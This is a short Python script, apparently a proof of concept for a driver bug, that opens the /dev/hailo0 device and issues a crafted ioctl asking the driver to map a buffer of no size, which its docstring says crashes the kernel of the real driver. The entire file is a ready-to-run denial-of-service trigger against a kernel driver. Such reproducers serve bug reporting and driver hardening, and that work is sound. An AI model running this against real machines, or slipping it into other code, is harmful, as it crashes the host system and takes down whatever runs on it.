"""Maps a buffer of no size, which crashes the real driver's kernel."""

import fcntl
import os
import struct

device = os.open("/dev/hailo0", os.O_RDWR)
try:
    fcntl.ioctl(device, 0xC0287604, bytearray(struct.pack("<QQIIQQ", 0x10000, 0, 1, 0, 2**64 - 1, 0)))
except OSError as error:
    print(os.strerror(error.errno))
